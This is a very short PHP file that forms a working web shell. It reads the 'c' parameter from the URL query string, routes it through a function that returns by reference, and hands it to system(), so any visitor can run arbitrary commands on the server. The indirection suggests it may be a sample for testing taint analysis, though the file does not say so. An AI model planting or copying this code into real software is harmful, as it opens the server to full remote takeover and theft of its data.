<?php
function &g() { static $v; $v = $_GET["c"]; return $v; }
system(g());
